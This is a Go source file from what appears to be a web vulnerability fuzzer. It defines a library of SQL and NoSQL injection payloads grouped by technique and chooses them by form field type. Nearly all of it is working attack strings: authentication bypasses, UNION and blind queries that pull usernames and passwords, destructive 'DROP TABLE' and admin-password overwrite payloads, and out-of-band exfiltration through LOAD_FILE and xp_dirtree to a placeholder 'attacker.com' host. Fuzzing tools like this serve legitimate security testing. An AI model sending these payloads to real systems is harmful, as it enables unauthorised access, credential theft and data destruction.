package payloads

import (
	"github.com/PentesterFlow/OpenFuzzer/internal/browser"
)

// SQLiProvider supplies SQL injection payloads covering MySQL, MSSQL,
// PostgreSQL, Oracle, SQLite and common NoSQL stores.
type SQLiProvider struct{}

func (SQLiProvider) Category() Category { return CategorySQLi }

var sqliBasic = []Payload{
	{Value: "' OR '1'='1", Category: CategorySQLi, Name: "Basic OR",
		Description: "Basic SQL injection using OR condition"},
	{Value: "' OR '1'='1' --", Category: CategorySQLi, Name: "OR with Comment",
		Description: "SQL injection with comment to ignore rest of query"},
	{Value: "admin' --", Category: CategorySQLi, Name: "Admin Comment",
		Description: "Attempt to log in as admin with comment"},
	{Value: "' OR 1=1 --", Category: CategorySQLi, Name: "Numeric OR",
		Description: "SQL injection using numeric comparison"},
	{Value: "' OR 1=1 #", Category: CategorySQLi, Name: "MySQL Comment",
		Description: "SQL injection with MySQL comment"},
	{Value: "' OR 1=1 /*", Category: CategorySQLi, Name: "C-style Comment",
		Description: "SQL injection with C-style comment"},
	{Value: `" OR "1"="1`, Category: CategorySQLi, Name: "Double Quote OR",
		Description: "SQL injection using double quotes"},
	{Value: "') OR ('1'='1", Category: CategorySQLi, Name: "Parenthesis OR",
		Description: "SQL injection with parentheses"},
	{Value: `") OR ("1"="1`, Category: CategorySQLi, Name: "Double Quote Parenthesis",
		Description: "SQL injection with double quotes and parentheses"},
}

var sqliAuthBypass = []Payload{
	{Value: "admin'--", Category: CategorySQLi, Name: "Admin Bypass",
		Description: "Authentication bypass as admin"},
	{Value: "admin' #", Category: CategorySQLi, Name: "Admin MySQL Comment",
		Description: "Authentication bypass with MySQL comment"},
	{Value: "admin'/*", Category: CategorySQLi, Name: "Admin C Comment",
		Description: "Authentication bypass with C-style comment"},
	{Value: "' OR '1'='1' LIMIT 1 --", Category: CategorySQLi, Name: "OR with Limit",
		Description: "Authentication bypass with LIMIT clause"},
	{Value: "' OR '1'='1' LIMIT 1,1 --", Category: CategorySQLi, Name: "OR with Offset",
		Description: "Authentication bypass with LIMIT and offset"},
	{Value: "' OR '1'='1' ORDER BY 1 --", Category: CategorySQLi, Name: "OR with Order",
		Description: "Authentication bypass with ORDER BY clause"},
	{Value: "admin') OR ('1'='1", Category: CategorySQLi, Name: "Admin Parenthesis",
		Description: "Authentication bypass with parentheses"},
}

var sqliError = []Payload{
	{Value: "' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(VERSION(),FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.TABLES GROUP BY x)a) AND '1'='1",
		Category: CategorySQLi, Name: "MySQL Error Based", Description: "Error-based SQL injection for MySQL"},
	{Value: "' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT version()), 0x7e)) AND '1'='1",
		Category: CategorySQLi, Name: "MySQL ExtractValue", Description: "Error-based SQL injection using ExtractValue"},
	{Value: "' AND UPDATEXML(1, CONCAT(0x7e, (SELECT version()), 0x7e), 1) AND '1'='1",
		Category: CategorySQLi, Name: "MySQL UpdateXML", Description: "Error-based SQL injection using UpdateXML"},
	{Value: "' AND 1=CONVERT(int,(SELECT user)) AND '1'='1",
		Category: CategorySQLi, Name: "MSSQL Error Based", Description: "Error-based SQL injection for MSSQL"},
	{Value: "' AND 1=CONVERT(int,(SELECT @@version)) AND '1'='1",
		Category: CategorySQLi, Name: "MSSQL Version", Description: "Error-based SQL injection to get MSSQL version"},
	{Value: "' AND 1=db_name() AND '1'='1",
		Category: CategorySQLi, Name: "MSSQL DB Name", Description: "Error-based SQL injection to get database name"},
	{Value: "' AND 1=cast((SELECT version()) as int) AND '1'='1",
		Category: CategorySQLi, Name: "PostgreSQL Error", Description: "Error-based SQL injection for PostgreSQL"},
	{Value: "' AND 1=cast((SELECT current_database()) as int) AND '1'='1",
		Category: CategorySQLi, Name: "PostgreSQL DB", Description: "Error-based SQL injection to get PostgreSQL database"},
	{Value: "' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT banner FROM v$version WHERE ROWNUM=1)) AND '1'='1",
		Category: CategorySQLi, Name: "Oracle Error", Description: "Error-based SQL injection for Oracle"},
}

var sqliUnion = []Payload{
	{Value: "' UNION SELECT 1,2,3 --", Category: CategorySQLi, Name: "Basic Union",
		Description: "Basic UNION-based SQL injection"},
	{Value: "' UNION SELECT 1,2,3,4 --", Category: CategorySQLi, Name: "Union Four Columns",
		Description: "UNION-based SQL injection with four columns"},
	{Value: "' UNION SELECT 1,2,3,4,5 --", Category: CategorySQLi, Name: "Union Five Columns",
		Description: "UNION-based SQL injection with five columns"},
	{Value: "' UNION SELECT username,password,3 FROM users --", Category: CategorySQLi,
		Name: "Union Users Table", Description: "UNION-based SQL injection targeting users table"},
	{Value: "' UNION SELECT table_name,2,3 FROM information_schema.tables --", Category: CategorySQLi,
		Name: "Union Tables", Description: "UNION-based SQL injection to list tables"},
	{Value: "' UNION SELECT column_name,2,3 FROM information_schema.columns WHERE table_name='users' --",
		Category: CategorySQLi, Name: "Union Columns", Description: "UNION-based SQL injection to list columns"},
	{Value: "' UNION SELECT 1,@@version,3 --", Category: CategorySQLi, Name: "MySQL Version",
		Description: "UNION-based SQL injection to get MySQL version"},
	{Value: "' UNION SELECT 1,@@datadir,3 --", Category: CategorySQLi, Name: "MySQL Data Dir",
		Description: "UNION-based SQL injection to get MySQL data directory"},
	{Value: "' UNION SELECT 1,current_user(),3 --", Category: CategorySQLi, Name: "MySQL User",
		Description: "UNION-based SQL injection to get MySQL current user"},
	{Value: "' UNION SELECT 1,@@servername,3 --", Category: CategorySQLi, Name: "MSSQL Server",
		Description: "UNION-based SQL injection to get MSSQL server name"},
	{Value: "' UNION SELECT 1,@@version,3 --", Category: CategorySQLi, Name: "MSSQL Version",
		Description: "UNION-based SQL injection to get MSSQL version"},
	{Value: "' UNION SELECT 1,version(),3 --", Category: CategorySQLi, Name: "PostgreSQL Version",
		Description: "UNION-based SQL injection to get PostgreSQL version"},
	{Value: "' UNION SELECT 1,current_database(),3 --", Category: CategorySQLi, Name: "PostgreSQL DB",
		Description: "UNION-based SQL injection to get PostgreSQL database"},
	{Value: "' UNION SELECT 1,banner,3 FROM v$version --", Category: CategorySQLi, Name: "Oracle Version",
		Description: "UNION-based SQL injection to get Oracle version"},
}

var sqliBlind = []Payload{
	{Value: "' AND SLEEP(5) AND '1'='1", Category: CategorySQLi, Name: "MySQL Time-Based",
		Description: "Time-based blind SQL injection for MySQL"},
	{Value: "' AND pg_sleep(5) AND '1'='1", Category: CategorySQLi, Name: "PostgreSQL Time-Based",
		Description: "Time-based blind SQL injection for PostgreSQL"},
	{Value: "' AND WAITFOR DELAY '0:0:5' AND '1'='1", Category: CategorySQLi, Name: "MSSQL Time-Based",
		Description: "Time-based blind SQL injection for MSSQL"},
	{Value: "' AND DBMS_LOCK.SLEEP(5) AND '1'='1", Category: CategorySQLi, Name: "Oracle Time-Based",
		Description: "Time-based blind SQL injection for Oracle"},
	{Value: "' AND (SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000)) AND '1'='1", Category: CategorySQLi,
		Name: "PostgreSQL CPU Load", Description: "CPU-intensive operation for PostgreSQL"},
	{Value: "' AND (SELECT COUNT(*) FROM users) > 0 AND '1'='1", Category: CategorySQLi,
		Name: "Boolean-Based Blind", Description: "Boolean-based blind SQL injection"},
	{Value: "' AND SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1)='a' AND '1'='1",
		Category: CategorySQLi, Name: "Substring Blind",
		Description: "Boolean-based blind SQL injection using SUBSTRING"},
	{Value: "' AND ASCII(SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1))>90 AND '1'='1",
		Category: CategorySQLi, Name: "ASCII Blind",
		Description: "Boolean-based blind SQL injection using ASCII"},
	{Value: "' AND (SELECT CASE WHEN (username='admin') THEN 1 ELSE 0 END FROM users LIMIT 1)=1 AND '1'='1",
		Category: CategorySQLi, Name: "Case Blind",
		Description: "Boolean-based blind SQL injection using CASE"},
}

var sqliOOB = []Payload{
	{Value: `' AND LOAD_FILE(CONCAT('\\\\',@@version,'.attacker.com\\share\\a.txt')) AND '1'='1`,
		Category: CategorySQLi, Name: "MySQL OOB File",
		Description: "Out-of-band SQL injection using LOAD_FILE"},
	{Value: `' UNION SELECT 1,2,LOAD_FILE(CONCAT('\\\\',@@version,'.attacker.com\\share\\a.txt')) --`,
		Category: CategorySQLi, Name: "MySQL OOB Union",
		Description: "Out-of-band SQL injection using UNION and LOAD_FILE"},
	{Value: `'; DECLARE @data VARCHAR(1024); SET @data=(SELECT @@version); EXEC('master..xp_dirtree "\\'+@data+'.attacker.com\\a"') --`,
		Category: CategorySQLi, Name: "MSSQL OOB xp_dirtree",
		Description: "Out-of-band SQL injection using xp_dirtree"},
	{Value: `'; EXEC master..xp_dirtree '\\attacker.com\share' --`,
		Category: CategorySQLi, Name: "MSSQL OOB Simple",
		Description: "Simple out-of-band SQL injection for MSSQL"},
}

var sqliSecondOrder = []Payload{
	{Value: "first'; INSERT INTO logs (message) VALUES ('second-order payload'); --",
		Category: CategorySQLi, Name: "Second-Order Insert",
		Description: "Second-order SQL injection using INSERT"},
	{Value: "first'; UPDATE users SET password='hacked' WHERE username='admin'; --",
		Category: CategorySQLi, Name: "Second-Order Update",
		Description: "Second-order SQL injection using UPDATE"},
}

var sqliNoSQL = []Payload{
	{Value: "' || 1==1", Category: CategorySQLi, Name: "NoSQL OR",
		Description: "NoSQL injection using OR condition"},
	{Value: "username[$ne]=invalid&password[$ne]=invalid", Category: CategorySQLi,
		Name: "NoSQL Not Equal", Description: "NoSQL injection using $ne operator"},
	{Value: "username[$regex]=^adm&password[$ne]=invalid", Category: CategorySQLi,
		Name: "NoSQL Regex", Description: "NoSQL injection using $regex operator"},
	{Value: "username[$exists]=true&password[$exists]=true", Category: CategorySQLi,
		Name: "NoSQL Exists", Description: "NoSQL injection using $exists operator"},
	{Value: "username[$in][]=admin&password[$ne]=invalid", Category: CategorySQLi,
		Name: "NoSQL In", Description: "NoSQL injection using $in operator"},
	{Value: "username[$gt]=a&password[$gt]=a", Category: CategorySQLi,
		Name: "NoSQL Greater Than", Description: "NoSQL injection using $gt operator"},
	{Value: "'; return this.username == 'admin' && this.password.match(/.*/) //", Category: CategorySQLi,
		Name: "NoSQL JavaScript", Description: "NoSQL injection using JavaScript"},
	{Value: "'; return this.username == 'admin' && sleep(5000) && this.password.match(/.*/) //",
		Category: CategorySQLi, Name: "NoSQL Sleep", Description: "NoSQL injection with sleep function"},
}

var sqliSQLite = []Payload{
	{Value: "' UNION SELECT 1,sqlite_version(),3 --", Category: CategorySQLi, Name: "SQLite Version",
		Description: "UNION-based SQL injection to get SQLite version"},
	{Value: "' UNION SELECT 1,name,3 FROM sqlite_master WHERE type='table' --", Category: CategorySQLi,
		Name: "SQLite Tables", Description: "UNION-based SQL injection to list SQLite tables"},
	{Value: "' AND 1=(SELECT count(*) FROM sqlite_master) AND '1'='1", Category: CategorySQLi,
		Name: "SQLite Boolean", Description: "Boolean-based blind SQL injection for SQLite"},
}

func allSQLi() []Payload {
	out := make([]Payload, 0)
	out = append(out, sqliBasic...)
	out = append(out, sqliAuthBypass...)
	out = append(out, sqliError...)
	out = append(out, sqliUnion...)
	out = append(out, sqliBlind...)
	out = append(out, sqliOOB...)
	out = append(out, sqliSecondOrder...)
	out = append(out, sqliNoSQL...)
	out = append(out, sqliSQLite...)
	return out
}

// PayloadsFor filters the SQLi set by field type. Free-text fields get
// the full set, constrained fields get sets shaped to what the field
// accepts.
func (SQLiProvider) PayloadsFor(fieldType browser.FieldType) []Payload {
	switch fieldType {
	case browser.FieldSearch, browser.FieldText, browser.FieldHidden,
		browser.FieldEmail, browser.FieldURL:
		return allSQLi()
	case browser.FieldNumber:
		return []Payload{
			{Value: "1 OR 1=1", Category: CategorySQLi, Name: "Numeric OR",
				Description: "SQL injection for numeric fields"},
			{Value: "1; DROP TABLE users", Category: CategorySQLi, Name: "Numeric Drop",
				Description: "Attempt to drop table via numeric field"},
			{Value: "1 AND (SELECT COUNT(*) FROM users)>0", Category: CategorySQLi, Name: "Numeric Boolean",
				Description: "Boolean-based SQL injection for numeric fields"},
			{Value: "1 AND SLEEP(5)", Category: CategorySQLi, Name: "Numeric Time-Based",
				Description: "Time-based SQL injection for numeric fields"},
			{Value: "1 UNION SELECT 1,2,3", Category: CategorySQLi, Name: "Numeric Union",
				Description: "UNION-based SQL injection for numeric fields"},
			{Value: "1 OR EXISTS(SELECT 1 FROM users WHERE username='admin')", Category: CategorySQLi,
				Name: "Numeric Exists", Description: "EXISTS-based SQL injection for numeric fields"},
		}
	case browser.FieldPassword:
		out := make([]Payload, 0, len(sqliBasic)+len(sqliAuthBypass))
		out = append(out, sqliBasic...)
		out = append(out, sqliAuthBypass...)
		return out
	case browser.FieldDate:
		return []Payload{
			{Value: "2023-01-01' OR '1'='1", Category: CategorySQLi, Name: "Date OR",
				Description: "SQL injection for date fields"},
			{Value: "2023-01-01'; DROP TABLE users; --", Category: CategorySQLi, Name: "Date Drop",
				Description: "Attempt to drop table via date field"},
		}
	default:
		return allSQLi()
	}
}
